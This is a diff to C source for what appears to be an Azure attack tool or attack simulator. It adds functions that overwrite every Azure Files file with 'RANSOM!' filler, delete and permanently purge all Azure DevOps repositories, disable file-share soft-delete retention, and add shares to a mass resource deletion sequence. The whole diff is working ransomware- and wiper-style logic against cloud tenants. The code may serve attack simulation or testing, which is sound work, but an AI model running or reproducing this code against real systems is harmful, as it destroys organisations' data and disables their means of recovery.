@@ -12,6 +12,9 @@
  *  3. Data: overwrite ("encrypt") then delete every blob; overwrite the
  *     contents of every managed disk; delete and purge every Key Vault secret,
  *     key and certificate.
+ *     Overwrite every Azure Files file in place.
+ *     Delete every Azure DevOps repository; as an Owner also purge it from
+ *     the recycle bin.
  *  4. Resources: delete snapshots, VMs, disks, vaults, containers, storage
  *     accounts, everything else, then resource groups; purge deleted vaults.
  *
@@ -92,6 +95,50 @@ static void attack_blobs(cJSON *log) {
   cJSON_Delete(names);
 }
 
+/* Azure Files: overwrite every file in place (Put Range), as ransomware on
+ * a mounted share would. Shares are deleted with the other resources. */
+static void attack_files(cJSON *log) {
+  cJSON *work = cJSON_CreateArray();
+  cJSON *s, *f;
+  cJSON_ArrayForEach(s, az_obj(az_g.st, "files")) {
+    cJSON_ArrayForEach(f, cJSON_GetObjectItem(s, "files")) {
+      size_t n = 0;
+      const char *d = az_str(f, "data");
+      unsigned char *raw = d && *d ? az_b64_decode(d, &n) : NULL;
+      free(raw);
+      if (n == 0) continue;
+      cJSON *w = cJSON_CreateObject();
+      char *path = az_strdupf("/%s/%s", s->string, f->string);
+      cJSON_AddStringToObject(w, "path", path);
+      cJSON_AddNumberToObject(w, "size", (double)n);
+      cJSON_AddItemToArray(work, w);
+      free(path);
+    }
+  }
+  cJSON *w;
+  cJSON_ArrayForEach(w, work) {
+    size_t n = (size_t)az_num(w, "size", 0);
+    if (n > 4u * 1024u * 1024u) n = 4u * 1024u * 1024u;
+    char *junk = malloc(n + 1);
+    for (size_t i = 0; i < n; i++) junk[i] = "RANSOM!"[i % 7];
+    junk[n] = 0;
+    cJSON *h = cJSON_CreateObject();
+    char *range = az_strdupf("bytes=0-%zu", n - 1);
+    cJSON_AddStringToObject(h, "x-ms-range", range);
+    cJSON_AddStringToObject(h, "x-ms-write", "update");
+    char *url = az_strdupf("%s?comp=range", az_str(w, "path"));
+    cJSON *out = NULL;
+    int st = az_call("PUT", NULL, url, h, junk, n, &out);
+    log_action(log, "encrypt-file", az_str(w, "path"), st, out);
+    cJSON_Delete(out);
+    free(url);
+    free(range);
+    free(junk);
+    cJSON_Delete(h);
+  }
+  cJSON_Delete(work);
+}
+
 static void attack_kv(cJSON *log) {
   static const char *colls[][2] = {{"secrets", "deletedsecrets"}, {"keys", "deletedkeys"}, {"certificates", "deletedcertificates"}};
   cJSON *work = cJSON_CreateArray();
@@ -122,6 +169,43 @@ static void attack_kv(cJSON *log) {
     call(log, "purge-kv-item", "DELETE", host, url, NULL, NULL, target);
     free(url);
     free(target);
+  }
+  cJSON_Delete(work);
+}
+
+/* Azure DevOps: delete every repository (to the recycle bin), then, as an
+ * Owner (Project Collection Administrator), purge it from the recycle bin. */
+static void attack_repos(cJSON *log, bool owner) {
+  cJSON *work = cJSON_CreateArray();
+  cJSON *org, *proj, *repo;
+  cJSON_ArrayForEach(org, cJSON_GetObjectItem(cJSON_GetObjectItem(az_g.st, "devops"), "orgs")) {
+    cJSON_ArrayForEach(proj, cJSON_GetObjectItem(org, "projects")) {
+      cJSON_ArrayForEach(repo, cJSON_GetObjectItem(proj, "repos")) {
+        char *base = az_strdupf("/%s/%s/_apis/git", az_str(org, "name"), az_str(proj, "name"));
+        cJSON *w = cJSON_CreateObject();
+        cJSON_AddStringToObject(w, "base", base);
+        cJSON_AddStringToObject(w, "id", az_str(repo, "id"));
+        cJSON_AddBoolToObject(w, "deleted", az_bool(repo, "deleted", false));
+        char *target = az_strdupf("%s/%s/%s", az_str(org, "name"), az_str(proj, "name"), az_str(repo, "name"));
+        cJSON_AddStringToObject(w, "target", target);
+        cJSON_AddItemToArray(work, w);
+        free(base);
+        free(target);
+      }
+    }
+  }
+  cJSON *w;
+  cJSON_ArrayForEach(w, work) {
+    char *url;
+    if (!az_bool(w, "deleted", false)) {
+      url = az_strdupf("%s/repositories/%s?api-version=7.1", az_str(w, "base"), az_str(w, "id"));
+      call(log, "delete-repo", "DELETE", NULL, url, NULL, NULL, az_str(w, "target"));
+      free(url);
+    }
+    if (!owner) continue;
+    url = az_strdupf("%s/recycleBin/repositories/%s?api-version=7.1", az_str(w, "base"), az_str(w, "id"));
+    call(log, "purge-repo", "DELETE", NULL, url, NULL, NULL, az_str(w, "target"));
+    free(url);
   }
   cJSON_Delete(work);
 }
@@ -176,6 +260,14 @@ static void weaken_retention(cJSON *log) {
          "{\"properties\":{\"deleteRetentionPolicy\":{\"enabled\":false},"
          "\"containerDeleteRetentionPolicy\":{\"enabled\":false}}}",
          id->valuestring);
+    free(url);
+  }
+  cJSON_Delete(ids);
+  ids = ids_of("microsoft.storage/storageaccounts/fileservices");
+  cJSON_ArrayForEach(id, ids) {
+    char *url = az_strdupf("%s?api-version=2023-05-01", id->valuestring);
+    call(log, "disable-share-soft-delete", "PUT", NULL, url, NULL,
+         "{\"properties\":{\"shareDeleteRetentionPolicy\":{\"enabled\":false}}}", id->valuestring);
     free(url);
   }
   cJSON_Delete(ids);
@@ -253,12 +345,15 @@ cJSON *az_attack(const char *role) {
   if (owner) delete_all(log, "microsoft.authorization/locks", "2020-05-01");
   weaken_retention(log);
   attack_blobs(log);
+  attack_files(log);
   encrypt_disks(log);
   if (az_sql_encrypt(az_now()) > 0) log_action(log, "encrypt-sql-tables", "all databases", 200, NULL);
   attack_kv(log);
+  attack_repos(log, owner);
   static const char *order[] = {"microsoft.compute/snapshots", "microsoft.compute/virtualmachines",
                                 "microsoft.compute/disks", "microsoft.keyvault/vaults",
                                 "microsoft.storage/storageaccounts/blobservices/containers",
+                                "microsoft.storage/storageaccounts/fileservices/shares",
                                 "microsoft.storage/storageaccounts"};
   for (size_t i = 0; i < sizeof order / sizeof *order; i++) delete_all(log, order[i], "2023-05-01");
   /* everything else that is top-level, then resource groups */
